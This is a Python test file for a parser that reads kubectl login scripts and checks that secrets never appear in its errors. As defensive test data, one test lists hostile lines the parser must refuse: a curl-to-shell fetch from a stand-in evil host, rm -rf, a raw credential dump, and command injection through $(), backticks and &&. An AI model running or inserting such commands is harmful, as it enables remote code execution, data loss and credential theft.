"""The account page's script is read as a shell would split it, and nothing else is."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sspcloud_magics.cluster.login_script import parse, read_script
from sspcloud_magics.errors import UsageProblem
from sspcloud_magics.secret import Secret
from tests.cluster.tokens import token

ID_TOKEN = token(exp=2_000_000_000, iat=1_000, iss="https://issuer.example", aud="k8s")
SCRIPT = f"""\
#!/bin/sh
kubectl config set-cluster HOST --server=https://api.example --insecure-skip-tls-verify=true
kubectl config set-credentials USER \\
  --auth-provider=oidc \\
  --auth-provider-arg=idp-issuer-url=https://issuer.example \\
  --auth-provider-arg=client-id=k8s \\
  --auth-provider-arg=refresh-token=CANARY-refresh \\
  --auth-provider-arg=id-token={ID_TOKEN}
kubectl config set-context HOST --user=USER --cluster=HOST --namespace=user-bob
kubectl config use-context HOST
"""


def test_the_four_commands_become_three_entries() -> None:
    script = parse(SCRIPT)
    assert (script.cluster, script.user, script.context) == ("HOST", "USER", "HOST")
    assert script.cluster_values == {"server": "https://api.example", "insecure-skip-tls-verify": True}
    assert script.context_values == {"user": "USER", "cluster": "HOST", "namespace": "user-bob"}
    assert script.oidc == {
        "idp-issuer-url": Secret("https://issuer.example"),
        "client-id": Secret("k8s"),
        "refresh-token": Secret("CANARY-refresh"),
        "id-token": Secret(ID_TOKEN),
    }
    assert script.token is None


def _join_lines(text: str) -> str:
    return text.replace(" \\\n  ", " ")


@pytest.mark.parametrize(
    "changed",
    [
        SCRIPT.replace("\n", "\r\n"),
        SCRIPT.replace("\n", "\r"),
        _join_lines(SCRIPT),
        "\ufeff" + SCRIPT.replace("#!/bin/sh\n", ""),
        SCRIPT.replace(" \\\n", " \\  \n"),
        SCRIPT.replace("--server=https", "--server https"),
        SCRIPT.replace("https://api.example", '"https://api.example"'),
        SCRIPT.replace("=client-id=k8s", "='client-id=k8s'"),
        SCRIPT.replace("--insecure-skip-tls-verify=true", "--insecure-skip-tls-verify"),
        SCRIPT.replace(" \\\n  --auth-provider-arg=refresh-token", ",refresh-token"),
        "\n".join(reversed(_join_lines(SCRIPT).splitlines())),
        SCRIPT + "\n\n# a word\n   \n",
        SCRIPT.rstrip("\n"),
    ],
    ids=[
        "crlf", "cr", "no continuations", "bom", "blank behind a backslash", "flag and value apart",
        "double quotes", "single quotes", "flag without a value", "settings with commas", "another order",
        "comments", "no last line end",
    ],
)  # fmt: skip
def test_script_may_be_written_as_any_shell_reads_it(changed: str) -> None:
    assert parse(changed) == parse(SCRIPT)


@given(
    st.lists(
        st.text(st.characters(exclude_characters="\0\r", codec="utf-8"), min_size=1), min_size=1, max_size=5
    )
)
def test_words_are_split_as_a_posix_shell_splits_them(words: list[str]) -> None:
    name = "".join(words)
    if name.startswith("-") or not name.strip():
        return
    written = "".join(shlex.quote(word) for word in words)
    script = parse(SCRIPT.replace("set-cluster HOST", f"set-cluster {written}").replace(
        "--cluster=HOST", f"--cluster={written}"
    ))  # fmt: skip
    assert script.cluster == name


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("curl https://evil.example/x | sh", "curl"),
        ("rm -rf CANARY", "rm"),
        ("kubectl delete pod CANARY", "kubectl"),
        ("kubectl config view --raw", "kubectl config"),
        ("kubectl config use-context HOST && echo CANARY", "kubectl config use-context"),
        ("kubectl config use-context $CANARY", "kubectl config use-context"),
        ('kubectl config use-context "$(CANARY)"', "kubectl config use-context"),
        ("kubectl config use-context `CANARY`", "kubectl config use-context"),
        ("kubectl config use-context HOST > CANARY", "kubectl config use-context"),
        ("kubectl config set-cluster HOST --server=https://x --CANARY=1", "kubectl config set-cluster"),
        ("kubectl config set-credentials USER --exec-command=CANARY", "--exec-command"),
        ("kubectl config set-context HOST --kubeconfig=CANARY", "--kubeconfig"),
        ("sudo kubectl config use-context CANARY", "sudo"),
        ("PASSWORD=CANARY kubectl config use-context HOST", "line 11"),
    ],
)
def test_other_line_is_refused_without_its_values(line: str, told: str) -> None:
    with pytest.raises(UsageProblem) as refused:
        parse(SCRIPT + line + "\n")
    assert "line 11" in str(refused.value)
    assert told in str(refused.value)
    assert "CANARY" not in str(refused.value).replace("--CANARY", "")


@pytest.mark.parametrize("keep", range(0, len(SCRIPT) - 8, 23))
def test_a_script_that_is_cut_off_anywhere_is_refused(keep: int) -> None:
    with pytest.raises(UsageProblem) as refused:
        parse(SCRIPT[:keep])
    assert "account page" in refused.value.hint
    assert "CANARY" not in str(refused.value)
    assert ID_TOKEN[:20] not in str(refused.value)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (SCRIPT + SCRIPT, "twice"),
        (SCRIPT.replace("use-context HOST", "use-context OTHER"), "contradicts itself"),
        (SCRIPT.replace("--cluster=HOST", "--cluster=OTHER"), "contradicts itself"),
        (SCRIPT.replace("https://api", "http://api"), "https://"),
        (SCRIPT.replace("https://api", "https://user:pw@api"), "https://"),
        (SCRIPT.replace("verify=true", "verify=maybe"), "true or false"),
        (SCRIPT.replace(ID_TOKEN, ID_TOKEN[:40]), "truncated"),
        (SCRIPT.replace("=refresh-token=CANARY-refresh", "=refresh-token="), "refresh-token"),
        (SCRIPT.replace("=refresh-token=CANARY-refresh", "='refresh-token=CANARY\n-refresh'"), "line break"),
        (SCRIPT.replace("--server=https", "--server='\n'https"), "no usable server"),
        (
            SCRIPT.replace("=refresh-token=CANARY-refresh", """='"refresh-token=CANARY"-refresh'"""),
            "stray quote",
        ),
        ("<!DOCTYPE html><html>", "web page"),
        ("apiVersion: v1\nkind: Config", "--kubeconfig"),
        ("", "no login script"),
    ],
)
def test_what_makes_no_sense_is_said_in_a_word(text: str, words: str) -> None:
    with pytest.raises(UsageProblem, match=words):
        parse(text)


def test_a_plain_token_is_a_login_too() -> None:
    start, end = SCRIPT.index("kubectl config set-credentials"), SCRIPT.index("kubectl config set-context")
    script = parse(f"{SCRIPT[:start]}kubectl config set-credentials USER --token=abc\n{SCRIPT[end:]}")
    assert script.token == Secret("abc")
    assert not script.oidc


def test_a_script_shows_no_credentials() -> None:
    assert "CANARY" not in repr(parse(SCRIPT))
    assert ID_TOKEN not in repr(parse(SCRIPT))


def test_long_file_is_read_fast_and_too_long_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageProblem, match="no login script"):
        parse("\n" * (1 << 20))
    file = tmp_path / "config.sh"
    file.write_bytes(b"#" * (1 << 21))
    with pytest.raises(UsageProblem, match="MiB"):
        read_script(file)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_script_as_powershell_saves_it_is_read(tmp_path: Path, encoding: str) -> None:
    file = tmp_path / "config.sh"
    file.write_bytes(SCRIPT.replace("\n", "\r\n").encode(encoding))
    assert read_script(file) == parse(SCRIPT)


@pytest.mark.parametrize("name", ["eyJ" + "CANARY" * 100, "CANARY\0"])
def test_token_in_the_place_of_a_file_is_not_shown(name: str) -> None:
    with pytest.raises(UsageProblem, match="no script of that name") as refused:
        read_script(Path(name))
    assert "CANARY" not in str(refused.value)


def test_a_file_that_cannot_be_read_is_named(tmp_path: Path) -> None:
    with pytest.raises(UsageProblem, match="directory"):
        read_script(tmp_path)
    with pytest.raises(UsageProblem, match="no script of that name"):
        read_script(tmp_path / "missing.sh")
    (tmp_path / "binary").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(UsageProblem, match="not text"):
        read_script(tmp_path / "binary")
